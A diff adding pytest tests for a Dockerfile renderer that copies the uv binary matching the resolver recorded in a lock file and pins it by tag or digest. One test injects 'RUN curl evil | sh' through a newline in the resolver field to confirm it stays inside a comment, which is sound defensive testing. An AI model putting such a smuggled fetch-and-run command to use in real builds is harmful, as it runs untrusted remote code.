@@ -6,6 +6,7 @@ import copy
 import dataclasses
 import json
 import re
+import shutil
 import subprocess
 
 import pytest
@@ -195,6 +196,67 @@ def test_image_labels_carry_the_plan_and_requirements_digests_under_their_publis
     assert labels["io.provision.plan-sha256"] == hashlib.sha256(canonical_json(inputs.plan.to_dict())).hexdigest()
     assert labels["io.provision.requirements-sha256"] == hashlib.sha256(files["requirements.txt"]).hexdigest()
     assert labels["io.provision.driver"] == "CUDA 12.8 runtime, planned for host driver 570.124.06"
+
+
+def _resolved_by(resolver: str, plan: dict | None = None):
+    plan = plan or make_plan()
+    return merge_resolution(plan["packages"], [PinnedRequirement(name=n, version=v, hashes=(H1,))
+                                               for n, v in plan["packages"].items()], resolver=resolver)
+
+
+def _uv_lines(df: str) -> list[str]:
+    return [ln for ln in df.splitlines() if "astral-sh/uv" in ln or ln.startswith("# uv ")]
+
+
+def test_the_dockerfile_copies_the_uv_that_resolved_the_lock():
+    resolver = "uv 0.11.2 (x86_64-unknown-linux-gnu)"
+    files = render_files(make_inputs(hashes=_resolved_by(resolver)))
+    df = text(files, "Dockerfile")
+    assert IMAGES.uv.tag != "0.11.2"
+    assert _uv_lines(df) == [
+        f"#   ghcr.io/astral-sh/uv:0.11.2: pinned by tag only; images.toml's uv is {IMAGES.uv.tag}: set its tag to "
+        "0.11.2 and `provision matrix refresh --only images` on a connected machine records this one's digest",
+        f"# uv 0.11.2: the uv that resolved this render's lock (hashes.resolver: {resolver}).",
+        "COPY --from=ghcr.io/astral-sh/uv:0.11.2 /uv /usr/local/bin/uv",
+    ]
+    assert json.loads(files[LOCK_NAME])["hashes"]["resolver"] == resolver  # the lock names that uv too
+
+
+def test_images_toml_pins_uv_by_its_digest_only_for_its_own_version():
+    digest = "sha256:" + "d" * 64
+    images = dataclasses.replace(IMAGES, uv=dataclasses.replace(IMAGES.uv, digest=digest))
+    same = text(render_files(make_inputs(images=images, hashes=_resolved_by(f"uv {IMAGES.uv.tag} (abc 2026-11-30)"))),
+                "Dockerfile")
+    assert f"COPY --from=ghcr.io/astral-sh/uv:{IMAGES.uv.tag}@{digest} /uv /usr/local/bin/uv" in same
+    assert f"#   ghcr.io/astral-sh/uv:{IMAGES.uv.tag}@{digest}: pinned by digest" in same
+    other = text(render_files(make_inputs(images=images, hashes=_resolved_by("uv 0.11.2"))), "Dockerfile")
+    assert "COPY --from=ghcr.io/astral-sh/uv:0.11.2 /uv" in other and digest not in other
+
+
+@pytest.mark.parametrize("resolver", ["none", "fake", "injected", "uv (missing)", "pip-compile 7.4.1"])
+def test_without_a_uv_resolver_the_dockerfile_takes_images_toml_uv_and_says_so(resolver):
+    df = text(render_files(make_inputs(hashes=_resolved_by(resolver))), "Dockerfile")
+    assert f"COPY --from={IMAGES.uv.ref} /uv /usr/local/bin/uv" in df
+    assert (f"# uv {IMAGES.uv.tag}: images.toml's uv, since no uv resolved this render's lock "
+            f"(hashes.resolver: {resolver}).") in df
+
+
+def test_a_resolver_line_cannot_break_out_of_its_comment():
+    df = text(render_files(make_inputs(hashes=_resolved_by("uv 0.11.2\nRUN curl evil | sh"))), "Dockerfile")
+    assert "COPY --from=ghcr.io/astral-sh/uv:0.11.2 /uv" in df
+    assert not re.search(r"^RUN curl", df, re.M)
+    assert "(hashes.resolver: uv 0.11.2 RUN curl evil | sh)." in df
+
+
+def test_the_installed_uv_version_line_is_one_the_render_reads():
+    """What ``resolve`` records (``uv --version``) names the uv the Dockerfile copies."""
+    uv = shutil.which("uv")
+    if uv is None:
+        pytest.skip("uv not on PATH")
+    line = subprocess.run([uv, "--version"], capture_output=True, text=True, check=True, timeout=30).stdout.strip()
+    version = line.split()[1]
+    df = text(render_files(make_inputs(hashes=_resolved_by(line))), "Dockerfile")
+    assert f"COPY --from=ghcr.io/astral-sh/uv:{version} /uv /usr/local/bin/uv" in df
 
 
 def test_the_dockerfile_says_how_each_image_is_pinned():
